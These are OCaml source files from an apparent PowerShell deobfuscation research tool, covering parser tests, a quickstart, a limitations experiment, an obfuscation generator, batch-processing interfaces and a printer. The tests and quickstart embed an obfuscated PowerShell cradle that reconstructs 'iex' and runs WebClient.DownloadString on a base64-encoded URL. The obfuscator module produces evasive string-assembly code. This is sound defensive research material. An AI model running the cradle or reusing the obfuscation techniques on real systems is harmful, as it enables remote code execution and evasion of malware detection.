  check_b "while" true (kind_exists "while ($x) { $x-- }" "WhileStatementAst");
  check_b "dowhile" true (kind_exists "do { 1 } while ($x)" "DoWhileStatementAst");
  check_b "dountil" true (kind_exists "do { 1 } until ($x)" "DoUntilStatementAst");
  check_b "for" true (kind_exists "for ($i=0; $i -lt 3; $i++) { $i }" "ForStatementAst");
  check_b "foreach" true (kind_exists "foreach ($x in 1..3) { $x }" "ForEachStatementAst");
  check_b "switch" true (kind_exists "switch ($x) { 'a' { 1 } default { 2 } }" "SwitchStatementAst");
  check_b "try" true (kind_exists "try { 1 } catch { 2 } finally { 3 }" "TryStatementAst");
  check_b "trap" true (kind_exists "trap { continue }; 1" "TrapStatementAst")

let test_function_def () =
  match (only_statement "function f($a, $b) { $a }").A.node with
  | A.Function_def (name, params, _) ->
      check_s "name" "f" name;
      Alcotest.(check (list string)) "params" [ "a"; "b" ] params
  | _ -> Alcotest.fail "expected function"

let test_param_block () =
  (* a leading param(...) becomes the script block's parameter list *)
  match (parse "param($x, $y)\n$x").A.node with
  | A.Script_block sb ->
      Alcotest.(check (list string)) "names" [ "x"; "y" ] sb.A.sb_params;
      check_i "one statement" 1 (List.length sb.A.sb_statements)
  | _ -> Alcotest.fail "expected script block"

let test_script_block_params () =
  match (find_kind "{ param($p) $p * 2 }" "ScriptBlockExpressionAst").A.node with
  | A.Script_block_expr sb ->
      Alcotest.(check (list string)) "sb params" [ "p" ] sb.A.sb_params
  | _ -> Alcotest.fail "expected script block"

let test_hash_literal () =
  match (find_kind "@{a = 1; b = 'two'}" "HashtableAst").A.node with
  | A.Hash_literal pairs -> check_i "pairs" 2 (List.length pairs)
  | _ -> Alcotest.fail "expected hashtable"

let test_command_invocation_operators () =
  (match (find_kind "& 'iex' 1" "CommandAst").A.node with
  | A.Command { A.cmd_invocation = A.Inv_call; _ } -> ()
  | _ -> Alcotest.fail "expected & invocation");
  match (find_kind ". ('ie'+'x') 1" "CommandAst").A.node with
  | A.Command { A.cmd_invocation = A.Inv_dot; cmd_elements; _ } ->
      check_i "elements" 2 (List.length cmd_elements)
  | _ -> Alcotest.fail "expected . invocation"

let test_command_parameters () =
  match (find_kind "powershell -enc abc -NoProfile" "CommandAst").A.node with
  | A.Command cmd ->
      let params =
        List.filter_map
          (function A.Elem_parameter (p, _) -> Some p | _ -> None)
          cmd.A.cmd_elements
      in
      check_i "two params" 2 (List.length params)
  | _ -> Alcotest.fail "expected command"

let test_extents_in_place () =
  let src = "$a = ('x'+'y'); write-host $a" in
  A.iter_post_order
    (fun n ->
      let text = A.text src n in
      check_b "extent slices source" true (String.length text > 0 || A.children n = []))
    (parse src)

let test_newline_handling () =
  (* newline ends a statement *)
  check_i "two statements" 2 (List.length (statements "1\n2"));
  (* newline after operator continues *)
  check_i "continuation after op" 1 (List.length (statements "1 +\n2"));
  (* newline after pipe continues *)
  check_i "continuation after pipe" 1 (List.length (statements "1 |\nmeasure-object"))

let test_parse_errors () =
  List.iter
    (fun src ->
      check_b ("rejects " ^ src) true
        (not (Psparse.Parser.is_valid_syntax src)))
    [ "if (1) 2"; "function"; "$x ="; "foreach ($x in) {}"; ")"; "{ 1" ]

(* an unterminated $( inside an expandable string must surface as a
   structured parse error carrying the real source offset — not an
   uncontained Failure from the subexpression scanner *)
let test_unterminated_subexpr_position () =
  let src = "Write-Output \"abc $(oops\"" in
  match Psparse.Parser.parse src with
  | Ok _ -> Alcotest.fail "unterminated $( parsed"
  | Error e ->
      let dollar = String.index src '$' in
      check_b "position at or after the $(" true (e.Psparse.Parser.position >= dollar);
      check_b "position inside the source" true
        (e.Psparse.Parser.position <= String.length src)

let test_fragment_offsets () =
  let src = "xx$(1+2)yy" in
  match Psparse.Parser.parse_fragment ~src ~offset:4 "1+2" with
  | Ok ast ->
      let binary = ref None in
      A.iter_post_order
        (fun n -> match n.A.node with A.Binary_expr _ -> binary := Some n | _ -> ())
        ast;
      let b = Option.get !binary in
      check_s "extent indexes outer source" "1+2" (A.text src b)
  | Error _ -> Alcotest.fail "fragment parse failed"

let test_paper_case_parses () =
  let case =
    "iNv`OKe-eX`pREssIoN ((\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'))\n\
     $sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n\
     .($psHoME[4]+$PSHOME[30]+'x') ((nEw-oBJeCt Net.WebClient).downloadstring($sdfs))"
  in
  check_b "valid" true (Psparse.Parser.is_valid_syntax case)

let prop_node_extents_nested =
  (* every child's extent lies within its parent's *)
  QCheck.Test.make ~name:"parser: child extents within parent" ~count:50
    (QCheck.make
       (QCheck.Gen.oneofl
          [ "('a'+'b').Replace('a','c')"; "$x = 1; if ($x) { $x * 2 }";
            "foreach ($i in 1..3) { write-host $i }";
            "iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('eA==')))" ]))
    (fun src ->
      let ast = parse src in
      let ok = ref true in
      let rec walk node =
        List.iter
          (fun child ->
            if not (Pscommon.Extent.contains node.A.extent child.A.extent) then
              ok := false;
            walk child)
          (A.children node)
      in
      walk ast;
      !ok)

let test_precedence_matrix () =
  (* spot checks across the documented precedence chain, verified through
     evaluation results *)
  let eval src =
    match Pseval.Interp.invoke_piece (Pseval.Env.create ()) src with
    | Ok v -> Psvalue.Value.to_string v
    | Error m -> "ERR " ^ m
  in
  List.iter
    (fun (src, expected) -> check_s src expected (eval src))
    [ ("1 + 2 * 3", "7");                       (* * over + *)
      ("'{0}' -f 'a' + 'b'", "ab");             (* -f over + *)
      ("1..2 + 2", "1 2 2");                    (* range over + : append  *)
      ("1,2 + 3", "1 2 3");                     (* comma over + : array append *)
      ("1 + 2 -eq 3", "True");                  (* + over -eq *)
      ("$true -or $false -and $false", "False"); (* logicals share one level *)
      ("-join ('a','b') + 'c'", "abc")          (* unary join binds its operand *) ]

let test_here_string_double_interpolates () =
  let src = "$x = 5\n@\"\nvalue: $x\n\"@" in
  match Pseval.Interp.invoke_piece (Pseval.Env.create ()) src with
  | Ok v -> check_s "here interpolation" "value: 5" (Psvalue.Value.to_string v)
  | Error m -> Alcotest.fail m

let test_nested_subexpr_in_string () =
  match (find_kind {|"x$(1 + $(2))y"|} "ExpandableStringExpressionAst").A.node with
  | A.Expandable_string (_, parts) ->
      check_i "nested subexpr parses" 3 (List.length parts)
  | _ -> Alcotest.fail "expected expandable"

let test_comment_positions () =
  check_b "after statement" true (Psparse.Parser.is_valid_syntax "1 # c");
  check_b "block mid-expression" true (Psparse.Parser.is_valid_syntax "1 + <# c #> 2");
  check_b "full-line" true (Psparse.Parser.is_valid_syntax "# only a comment")

let test_empty_and_whitespace_scripts () =
  check_i "empty" 0 (List.length (statements ""));
  check_i "whitespace" 0 (List.length (statements "  \n\t  \n"));
  check_i "separators only" 0 (List.length (statements ";;\n;"))

let test_splatting_parses () =
  check_b "splat variable" true (Psparse.Parser.is_valid_syntax "cmd @params")

let suite =
  [
    ("pipeline shapes", `Quick, test_pipeline_shapes);
    ("precedence matrix", `Quick, test_precedence_matrix);
    ("here-string interpolation", `Quick, test_here_string_double_interpolates);
    ("nested subexpr in string", `Quick, test_nested_subexpr_in_string);
    ("comment positions", `Quick, test_comment_positions);
    ("empty scripts", `Quick, test_empty_and_whitespace_scripts);
    ("splatting", `Quick, test_splatting_parses);
    ("assignment", `Quick, test_assignment);
    ("compound assignment", `Quick, test_compound_assignment);
    ("precedence add/mul", `Quick, test_precedence_add_mul);
    ("precedence format/comma", `Quick, test_precedence_format_vs_comma);
    ("precedence comparison low", `Quick, test_precedence_comparison_low);
    ("unary", `Quick, test_unary);
    ("method args commas", `Quick, test_method_call_args_commas);
    ("static member", `Quick, test_static_member);
    ("convert vs type literal", `Quick, test_convert_vs_type_literal);
    ("index expr", `Quick, test_index_expr);
    ("expandable string parts", `Quick, test_expandable_string_parts);
    ("double-quoted constant", `Quick, test_double_quoted_no_expansion_is_constant);
    ("control flow", `Quick, test_control_flow);
    ("function def", `Quick, test_function_def);
    ("param block", `Quick, test_param_block);
    ("script block params", `Quick, test_script_block_params);
    ("hash literal", `Quick, test_hash_literal);
    ("invocation operators", `Quick, test_command_invocation_operators);
    ("command parameters", `Quick, test_command_parameters);
    ("extents in place", `Quick, test_extents_in_place);
    ("newline handling", `Quick, test_newline_handling);
    ("parse errors", `Quick, test_parse_errors);
    ("unterminated subexpr position", `Quick, test_unterminated_subexpr_position);
    ("fragment offsets", `Quick, test_fragment_offsets);
    ("paper case parses", `Quick, test_paper_case_parses);
    QCheck_alcotest.to_alcotest prop_node_extents_nested;
  ]
