lib/deobf/blocklist.mli:
