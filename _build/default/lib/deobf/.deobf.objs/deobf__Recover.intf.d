lib/deobf/recover.mli: Psast
