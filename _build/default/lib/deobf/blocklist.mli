(** Commands that recovery must never execute (paper §III-B2): network,
    timing, process, persistence and anti-analysis commands.  Pieces that
    mention them are skipped, which both keeps recovery safe and keeps
    deobfuscation time flat (paper Fig 6). *)

val commands : string list
(** The blocklist, lowercase command and method names. *)

val is_blocked : string -> bool
(** Caseless membership test. *)

val mentions_blocked_command : string -> bool
(** True when the piece's {e token stream} names a blocked command or
    method (string contents do not trigger it); also true for un-lexable
    pieces, which are never executed. *)
