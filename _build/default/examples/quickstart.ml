(* Quickstart: deobfuscate one script with the default pipeline.

   Run with:  dune exec examples/quickstart.exe *)

let obfuscated =
  "iNv`OKe-eX`pREssIoN ((\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'))\n\
   $xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n\
   $lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n\
   $sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n\
   .($psHoME[4]+$PSHOME[30]+'x') ((nEw-oBJeCt Net.WebClient).downloadstring($sdfs))"

let () =
  print_endline "--- obfuscated input ---";
  print_endline obfuscated;
  print_newline ();

  (* one call does everything: token phase, variable tracing, AST recovery,
     multi-layer unwrapping, rename & reformat *)
  let result = Deobf.Engine.run obfuscated in

  print_endline "--- deobfuscated output ---";
  print_endline (String.trim result.Deobf.Engine.output);
  print_newline ();

  Printf.printf "pieces recovered:      %d\n"
    result.stats.Deobf.Recover.pieces_recovered;
  Printf.printf "variables substituted: %d\n"
    result.stats.Deobf.Recover.variables_substituted;
  Printf.printf "layers unwrapped:      %d\n"
    result.stats.Deobf.Recover.layers_unwrapped;

  (* obfuscation score before and after (paper §IV-B2) *)
  Printf.printf "obfuscation score:     %d -> %d\n" (Deobf.Score.score obfuscated)
    (Deobf.Score.score result.Deobf.Engine.output);

  (* the recovered indicators an analyst actually wants *)
  let info = Keyinfo.extract result.Deobf.Engine.output in
  List.iter (Printf.printf "recovered URL:         %s\n") info.Keyinfo.urls
