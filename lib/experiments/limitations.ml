(** §V-C — the paper's own limitations, reproduced.

    Two documented failure modes:
    {ul
    {- {b loop decoders} (whitespace encoding): the decoded value is built
       by a loop, and Algorithm 1 refuses to record loop-assigned
       variables;}
    {- {b function nesting}: the recovery algorithm lives in a function and
       the obfuscated data reaches it through calls, so no single
       recoverable piece contains both.}}

    Both are limits of the paper's {e static} algorithm, so the static
    pipeline ([use_dynamic = false]) must fail the same way the paper says.
    The provenance-guided dynamic stage was added precisely to lift the
    first one: it executes the script under the sandbox, maps each loop- or
    branch-carried value back to its defining extent, and substitutes the
    verified result.  The [recovered_dynamic] column shows which cases that
    lifts — the loop decoder folds, while the function-nested decoder stays
    out of reach (the loop lives inside a callee, not a top-level region). *)

open Pscommon

type case = { name : string; script : string; payload_marker : string }

let cases () =
  let rng = Rng.of_int 4242 in
  [
    {
      name = "whitespace-encoding (loop decoder)";
      script =
        Obfuscator.Obfuscate.apply rng Obfuscator.Technique.Enc_whitespace
          "write-host hidden-payload-one";
      payload_marker = "hidden-payload-one";
    };
    {
      name = "function-nested decoder";
      script =
        "function decode($s) {\n\
        \  $out = ''\n\
        \  foreach ($c in $s.ToCharArray()) { $out += [char]([int]$c - 1) }\n\
        \  $out\n\
         }\n\
         $enc = 'xsjuf.iptu!ijeefo.qbzmpbe.uxp'\n\
         & ('ie'+'x') (decode $enc)";
      payload_marker = "hidden-payload-two";
    };
    {
      name = "straight-line control (recovers fine)";
      script = "& ('ie'+'x') ('write-host hidden'+'-payload-three')";
      payload_marker = "hidden-payload-three";
    };
  ]

type row = {
  case : string;
  recovered : bool;  (** static pipeline only — the paper's algorithm *)
  recovered_dynamic : bool;  (** full pipeline with the dynamic stage *)
  behavior_preserved : bool;
}

let run () =
  let static_options =
    { Deobf.Engine.default_options with
      recovery =
        { Deobf.Engine.default_options.Deobf.Engine.recovery with
          Deobf.Engine.use_dynamic = false } }
  in
  List.map
    (fun c ->
      let static_out =
        (Deobf.Engine.run ~options:static_options c.script).Deobf.Engine.output
      in
      let dynamic_out = (Deobf.Engine.run c.script).Deobf.Engine.output in
      {
        case = c.name;
        recovered = Strcase.contains ~needle:c.payload_marker static_out;
        recovered_dynamic = Strcase.contains ~needle:c.payload_marker dynamic_out;
        behavior_preserved =
          Sandbox.same_network_behavior (Sandbox.run c.script)
            (Sandbox.run dynamic_out);
      })
    (cases ())

let print rows =
  Printf.printf "SS V-C: documented limitations\n";
  Printf.printf "  %-38s %10s %10s %20s\n" "Case" "static" "dynamic"
    "behaviour preserved";
  List.iter
    (fun r ->
      Printf.printf "  %-38s %10s %10s %20s\n" r.case
        (if r.recovered then "yes" else "no")
        (if r.recovered_dynamic then "yes" else "no")
        (if r.behavior_preserved then "yes" else "NO"))
    rows;
  Printf.printf
    "  (paper: loop decoders and function nesting defeat static tracing; \
     the provenance stage lifts the loop-decoder case, and the output must \
     still behave identically)\n"
