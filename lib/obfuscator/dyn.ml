(** Dynamic-assembly obfuscation: rewrite literal string assignments into
    run-time constructions — loop-carried builds, accumulator folds and
    conditional payload selection — that the static tracer (paper Alg. 1)
    deliberately skips.  These are exactly the shapes the provenance-guided
    dynamic recovery stage exists to undo, so the generators double as its
    ground-truth corpus: each construction is pure and rebuilds the
    original string exactly.

    [statements] renders the construction for one (variable, string) pair;
    [apply] rewrites eligible top-level assignments of a whole script. *)

open Pscommon
module A = Psast.Ast

(* a short variable name not already used in the script (nor equal to the
   assembled variable), so the construction cannot capture an existing
   binding *)
let fresh_name rng ~avoid src =
  let rec go tries =
    let n =
      String.init (Rng.int_in rng 3 5) (fun _ -> Rng.lowercase_letter rng)
    in
    if tries = 0 then n
    else if
      Strcase.contains ~needle:("$" ^ n) src || String.equal n avoid
    then go (tries - 1)
    else n
  in
  go 8

(* $v = ''; foreach ($p in @(pieces)) { $v = $v + $p } *)
let loop_build rng ~src ~var s =
  let pieces = L2.split_pieces rng s (Rng.int_in rng 2 5) in
  let p = fresh_name rng ~avoid:var src in
  Printf.sprintf "$%s = ''\nforeach ($%s in @(%s)) { $%s = $%s + $%s }" var p
    (String.concat ", " (List.map L2.quote pieces))
    var var p

(* $v = @(); foreach ($p in @(pieces)) { $v += $p }; $v = $v -join '' *)
let accum_join rng ~src ~var s =
  let pieces = L2.split_pieces rng s (Rng.int_in rng 2 5) in
  let p = fresh_name rng ~avoid:var src in
  Printf.sprintf
    "$%s = @()\nforeach ($%s in @(%s)) { $%s += $%s }\n$%s = $%s -join ''"
    var p
    (String.concat ", " (List.map L2.quote pieces))
    var p var var

(* $k = key; if ($k -lt gate) { $v = decoy } else { $v = payload } — the
   key is chosen so the else branch always selects the payload; the decoy
   (the payload reversed) never runs *)
let cond_payload rng ~src ~var s =
  let k = fresh_name rng ~avoid:var src in
  let gate = Rng.int_in rng 3 9 in
  let key = gate + Rng.int_in rng 1 5 in
  let n = String.length s in
  let decoy = String.init n (fun i -> s.[n - 1 - i]) in
  Printf.sprintf "$%s = %d\nif ($%s -lt %d) { $%s = %s } else { $%s = %s }" k
    key k gate var (L2.quote decoy) var (L2.quote s)

let statements rng technique ~src ~var s =
  match technique with
  | Technique.Loop_build -> loop_build rng ~src ~var s
  | Technique.Accum_join -> accum_join rng ~src ~var s
  | Technique.Cond_payload -> cond_payload rng ~src ~var s
  | t ->
      invalid_arg ("Dyn.statements: not a dynamic technique: " ^ Technique.name t)

(* an assignment target the generators can re-spell as [$name] verbatim *)
let plain_name n =
  n <> ""
  && String.for_all
       (fun c ->
         c = '_'
         || (c >= 'a' && c <= 'z')
         || (c >= 'A' && c <= 'Z')
         || (c >= '0' && c <= '9'))
       n

let rec unwrap e =
  match e.A.node with
  | A.Pipeline [ x ] | A.Command_expression x | A.Paren_expr x -> unwrap x
  | _ -> e

(* Rewrite eligible top-level [$name = 'literal'] statements.  The
   replacement spans several statements, so each edit is validated by
   re-parsing the whole patched script; a splice that would break the
   syntax (a statement sharing a line with another, say) backs out to the
   original text. *)
let apply rng technique src =
  match Psparse.Parser.parse src with
  | Error _ -> src
  | Ok { A.node = A.Script_block sb; _ } ->
      let edits =
        List.filter_map
          (fun stmt ->
            match stmt.A.node with
            | A.Assignment (A.Assign, { A.node = A.Variable_expr v; _ }, rhs)
              when (not v.A.var_splat) && plain_name v.A.var_name -> (
                match (unwrap rhs).A.node with
                | A.String_const (s, A.Single_quoted)
                  when String.length s >= 2
                       && (not (String.contains s '\n'))
                       && Rng.chance rng 0.9 ->
                    Some
                      (Patch.edit stmt.A.extent
                         (statements rng technique ~src ~var:v.A.var_name s))
                | _ -> None)
            | _ -> None)
          sb.A.sb_statements
      in
      if edits = [] then src
      else
        let out = Patch.apply src edits in
        if Psparse.Parser.is_valid_syntax out then out else src
  | Ok _ -> src
