(** Fixed-size domain pool with an atomic work queue.

    Determinism by construction: item [i]'s result is written only to slot
    [i], and slots are disjoint, so the result list is always in input
    order no matter how the scheduler interleaves the workers.  Worker
    domains inherit nothing ambient — {!Guard}'s deadline stack is
    domain-local, so a deadline installed in one worker can never leak
    into another. *)

let recommended_jobs () = Domain.recommended_domain_count ()

(* Scheduling metrics, aggregated across all pools of the process: how long
   items sat in the queue before a worker claimed them vs how long they ran,
   plus a per-domain task count (all Atomic-backed, so workers bump them
   concurrently and a snapshot at join time sees every domain's share). *)
let m_queue_wait = Telemetry.Metrics.histogram "pool.queue_wait_ms"
let m_run = Telemetry.Metrics.histogram "pool.run_ms"
let m_jobs = Telemetry.Metrics.gauge "pool.jobs"

let map ?(jobs = 1) f items =
  let items = Array.of_list items in
  let n = Array.length items in
  let jobs = max 1 (min jobs n) in
  if jobs <= 1 then Array.to_list (Array.map f items)
  else begin
    let results = Array.make n None in
    let next = Atomic.make 0 in
    Telemetry.Metrics.set m_jobs jobs;
    let started = Unix.gettimeofday () in
    let worker k () =
      let m_tasks =
        Telemetry.Metrics.counter (Printf.sprintf "pool.tasks.d%d" k)
      in
      let rec loop () =
        let i = Atomic.fetch_and_add next 1 in
        if i < n then begin
          let claimed = Unix.gettimeofday () in
          Telemetry.Metrics.observe m_queue_wait ((claimed -. started) *. 1000.0);
          let r = match f items.(i) with v -> Ok v | exception e -> Error e in
          Telemetry.Metrics.observe m_run
            ((Unix.gettimeofday () -. claimed) *. 1000.0);
          Telemetry.Metrics.incr m_tasks;
          results.(i) <- Some r;
          loop ()
        end
      in
      loop ()
    in
    (* the calling domain is worker number [jobs]; spawn the other jobs-1 *)
    let domains = List.init (jobs - 1) (fun k -> Domain.spawn (worker k)) in
    worker (jobs - 1) ();
    List.iter Domain.join domains;
    Array.to_list
      (Array.map
         (function
           | Some (Ok v) -> v
           | Some (Error e) -> raise e
           | None -> assert false (* every index was claimed and joined *))
         results)
  end

let iter ?jobs f items = ignore (map ?jobs f items)
