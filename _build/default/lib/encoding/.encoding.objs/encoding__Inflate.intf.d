lib/encoding/inflate.mli:
