lib/experiments/effectiveness.ml: Baselines Corpus Float Keyinfo List Printf Unix
