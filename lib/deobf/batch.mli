(** Crash-isolated batch processing — the shape of the paper's Table II
    corpus runs and of any future service: one hanging or crashing sample is
    contained by its own deadline and recorded in a per-file JSON failure
    report, and the batch continues.  With [jobs > 1] the files run in
    parallel on a fixed-size domain pool ({!Pscommon.Pool}); outcomes stay
    in input order and outputs are byte-identical to a sequential run. *)

(** The degraded-mode retry ladder, strongest first.  When an attempt
    degrades for any reason a weaker mode could dodge (anything but a parse
    failure), the file is retried one rung down with a fresh deadline:
    {!Static} drops the dynamic recovery fixpoint (no piece execution),
    {!Token_only} additionally drops renaming and reformatting, and
    {!Passthrough} does not run the engine at all — the unconditional
    floor, so every file always yields an output and a classified report. *)
type mode = Full | Static | Token_only | Passthrough

val mode_name : mode -> string
(** ["full"], ["static"], ["token-only"], ["passthrough"] — the JSON tags. *)

val weaker : mode -> mode option
(** The next rung down, [None] below {!Passthrough}. *)

type outcome = {
  file : string;  (** input path *)
  output_file : string option;  (** where the recovered text was written *)
  wall_ms : float;
  phase_ms : (string * float) list;
      (** per-phase wall milliseconds from {!Engine.run_guarded} *)
  iterations : int;
  changed : bool;
  failures : Engine.failure_site list;
      (** empty when the file ran clean; accumulated across every ladder
          attempt, so a retried file shows its whole descent *)
  stats : Recover.stats;
  degraded_mode : mode;  (** the rung that produced the final output *)
  retries : int;  (** ladder steps taken; 0 means full strength *)
  regions_total : int;  (** {!Engine.guarded} partial-parse region count *)
  regions_recovered : int;
  verdict : Verify.verdict option;
      (** semantic-equivalence verdict; [None] when verification was off *)
  resumed : bool;
      (** answered from the resume journal — the previous run's output was
          kept and the pipeline did not run again *)
}

type summary = {
  total : int;
  clean : int;
      (** files with no contained failures {e and} no ladder retries —
          clean at full strength *)
  degraded : int;  (** files that degraded or walked the retry ladder *)
  wall_ms : float;
  jobs_requested : int;  (** the [jobs] the caller asked for *)
  jobs_effective : int;
      (** after clamping to {!Pscommon.Pool.recommended_jobs} — the pool
          size the run actually used *)
  cache_stats : Recover.Cache.stats option;
      (** end-of-run snapshot of the shared piece cache ([None] only for
          summaries built outside {!run_files}) *)
  outcomes : outcome list;  (** in processing order *)
}

type journal
(** Handle on the [manifest.jsonl] resume journal of one batch run; created
    internally by {!run_files} when there is an output directory. *)

val piece_cache_fingerprint :
  options:Engine.options option ->
  timeout_s:float option ->
  max_output_bytes:int option ->
  string
(** The version/options fingerprint guarding the persistent piece-cache
    tier ({!Recover.Cache.create}): a digest over the cache format version
    and every evaluation-relevant knob, so entries written by a run with
    different recovery options (or a future incompatible format) load as
    misses.  Used by {!run_files} and the serve daemon; exposed so other
    front ends pointing at the same cache directory stay compatible. *)

val run_source :
  ?options:Engine.options ->
  ?timeout_s:float ->
  ?max_output_bytes:int ->
  ?cache:Recover.Cache.t ->
  ?verify:bool ->
  ?verify_opts:Verify.opts ->
  name:string ->
  string ->
  outcome * string
(** [run_source ~name src] is the shared request core between batch files
    and serve-daemon requests: walk the retry ladder on the source text,
    optionally run the {!Verify} gate on the winning rung, and return the
    outcome (with [file = name], no output file, [wall_ms] covering just
    the pipeline) alongside the recovered text.  [cache] supplies a
    caller-owned piece cache, so a long-running service keeps recovered
    pieces warm across requests; without it each call starts cold.  Never
    raises on malicious input — every degradation is a structured failure
    site in the outcome. *)

val process_file :
  ?options:Engine.options ->
  ?timeout_s:float ->
  ?max_output_bytes:int ->
  ?cache:Recover.Cache.t ->
  ?out_dir:string ->
  ?trace_dir:string ->
  ?sampled:bool ->
  ?verify:bool ->
  ?verify_opts:Verify.opts ->
  ?journal:journal ->
  string ->
  outcome
(** Run one file through {!Engine.run_guarded} under its own deadline,
    descending the retry ladder on non-parse degradations.  Never raises:
    unreadable files and crashing samples come back as an outcome with
    failures, and anything escaping the per-file pipeline (including
    injected {!Pscommon.Chaos} pool faults) is contained by a backstop
    guard as a ["task"] failure site.  Under chaos injection the file is
    processed in a {!Pscommon.Chaos.with_scope} keyed by its basename, so
    faults replay identically across [--jobs] levels and traced/untraced
    runs.  With [out_dir], the recovered text is written
    to [out_dir/<basename>] and, when the file degraded, a failure report
    to [out_dir/<basename>.failures.json].  A failed output write is
    recorded as a ["write"] failure site.  With [trace_dir], the file runs
    under an ambient {!Pscommon.Telemetry} trace and the event stream is
    written to [trace_dir/<basename>.trace.jsonl] — one stream per input,
    even across pool domains.  With [sampled:false] (and a [trace_dir])
    the file still runs traced, but into a reusable per-domain scratch
    ring with no JSONL serialization — the sampling fast path.

    With [verify] (default off here, on in {!run_files}), the {!Verify}
    gate executes original and output in the sandbox after the ladder
    settles and the outcome carries the verdict; a divergence is rolled
    back by re-running the same rung with the offending edits suppressed.
    With [journal], the file is skipped when a matching clean ["done"]
    entry exists (resume), and ["started"]/["done"] entries are appended
    as it is processed. *)

val run_files :
  ?options:Engine.options ->
  ?timeout_s:float ->
  ?max_output_bytes:int ->
  ?out_dir:string ->
  ?trace_dir:string ->
  ?trace_sample:int ->
  ?jobs:int ->
  ?verify:bool ->
  ?verify_opts:Verify.opts ->
  ?resume:bool ->
  ?piece_cache_dir:string ->
  string list ->
  summary
(** Process the given files, [jobs] at a time (default 1, sequential;
    clamped to {!Pscommon.Pool.recommended_jobs} — both the requested and
    effective levels are recorded in the summary).
    [out_dir] (and [trace_dir]) are created with mkdir-p semantics; if one
    cannot be created (e.g. the path names a regular file) every outcome
    carries a structured ["write"] failure instead of the batch crashing.
    The process-global {!Pscommon.Telemetry.Metrics} registry is reset at
    the start of the call, so a snapshot taken afterwards (and the
    [metrics.json] rollup from {!run_dir}) covers exactly this run.

    All files share one {!Recover.Cache} across every pool domain, so a
    decode piece recovered in one file is a cache hit in the next.  With
    [piece_cache_dir] (created mkdir-p; an unusable directory silently
    degrades to memory-only) cacheable piece results also persist across
    runs, guarded by a fingerprint of the evaluation-relevant options.

    [verify] (default on) runs the {!Verify} semantic gate on every file.
    With an [out_dir], the run keeps an append-only [manifest.jsonl]
    journal there (truncated at the start of a fresh run); [resume]
    (default off) loads it first and skips every file whose clean ["done"]
    entry matches the current input digest and options fingerprint and
    whose output file still exists — a restarted batch converges to the
    same output bytes without redoing finished work.

    [trace_sample n] (with a [trace_dir], [n > 1]) serializes only every
    n-th file's trace, by input index, so the selection is deterministic
    across [jobs] levels; unsampled files trace into a reusable scratch
    ring with no serialization cost. *)

val run_dir :
  ?options:Engine.options ->
  ?timeout_s:float ->
  ?max_output_bytes:int ->
  ?out_dir:string ->
  ?trace_dir:string ->
  ?trace_sample:int ->
  ?jobs:int ->
  ?verify:bool ->
  ?verify_opts:Verify.opts ->
  ?resume:bool ->
  ?piece_cache_dir:string ->
  string ->
  summary
(** Process every regular file in a directory, in sorted order.  With
    [out_dir], also writes [out_dir/batch_report.json] and the run-level
    observability rollup [out_dir/metrics.json]. *)

val diverged_count : summary -> int
(** Files whose verdict is {!Verify.Diverged} — outputs kept but flagged
    untrusted; callers should treat any nonzero count as a failure. *)

val outcome_to_json : outcome -> string
val summary_to_json : summary -> string

val metrics_json : summary -> string
(** The run-level rollup written as [metrics.json]: contained-failure
    counts keyed ["phase/kind"], piece-cache hit rate, per-phase wall-time
    totals, per-rung [degraded_modes] counts with [retries_total], the
    partial-parse [regions] totals, and the current
    {!Pscommon.Telemetry.Metrics} snapshot
    (counters, gauges and latency histograms aggregated across all pool
    domains).  Meaningful right after {!run_files}/{!run_dir}, which reset
    the registry at the start of the run. *)
