lib/pseval/statics.ml: Array Buffer Casts Char Encoding Float Format_op List Printf Pscommon Psvalue String Value
