lib/obfuscator/technique.mli:
