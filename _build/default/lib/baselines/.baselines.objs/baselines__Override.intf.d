lib/baselines/override.mli: Pseval
