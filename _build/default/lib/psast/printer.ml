(** Canonical source rendering of an AST.

    [print] produces executable PowerShell from any tree this library can
    represent.  It is used for diagnostics and as a test oracle: for every
    script the parser accepts, [parse (print (parse s))] must produce a tree
    with the same shape — a strong whole-grammar property.

    Rendering is canonical, not source-preserving: the deobfuscator's
    in-place patching never uses it (extent splicing is what preserves
    untouched bytes). *)

let quote_single s =
  let buf = Buffer.create (String.length s + 2) in
  Buffer.add_char buf '\'';
  String.iter
    (fun c ->
      if c = '\'' then Buffer.add_string buf "''" else Buffer.add_char buf c)
    s;
  Buffer.add_char buf '\'';
  Buffer.contents buf

let quote_double s =
  let buf = Buffer.create (String.length s + 2) in
  Buffer.add_char buf '"';
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "`\""
      | '`' -> Buffer.add_string buf "``"
      | '$' -> Buffer.add_string buf "`$"
      | '\n' -> Buffer.add_string buf "`n"
      | '\r' -> Buffer.add_string buf "`r"
      | '\t' -> Buffer.add_string buf "`t"
      | c -> Buffer.add_char buf c)
    s;
  Buffer.add_char buf '"';
  Buffer.contents buf

let binop_text (op : Ast.binop) sensitivity =
  let prefix =
    match sensitivity with Some true -> "c" | Some false -> "i" | None -> ""
  in
  let base =
    match op with
    | Ast.Add -> "+"
    | Ast.Sub -> "-"
    | Ast.Mul -> "*"
    | Ast.Div -> "/"
    | Ast.Mod -> "%"
    | Ast.Format -> "-f"
    | Ast.Range -> ".."
    | Ast.Eq -> "-" ^ prefix ^ "eq"
    | Ast.Ne -> "-" ^ prefix ^ "ne"
    | Ast.Gt -> "-" ^ prefix ^ "gt"
    | Ast.Ge -> "-" ^ prefix ^ "ge"
    | Ast.Lt -> "-" ^ prefix ^ "lt"
    | Ast.Le -> "-" ^ prefix ^ "le"
    | Ast.Like -> "-" ^ prefix ^ "like"
    | Ast.Notlike -> "-" ^ prefix ^ "notlike"
    | Ast.Match -> "-" ^ prefix ^ "match"
    | Ast.Notmatch -> "-" ^ prefix ^ "notmatch"
    | Ast.Replace -> "-" ^ prefix ^ "replace"
    | Ast.Split -> "-" ^ prefix ^ "split"
    | Ast.Join -> "-join"
    | Ast.Contains -> "-" ^ prefix ^ "contains"
    | Ast.Notcontains -> "-" ^ prefix ^ "notcontains"
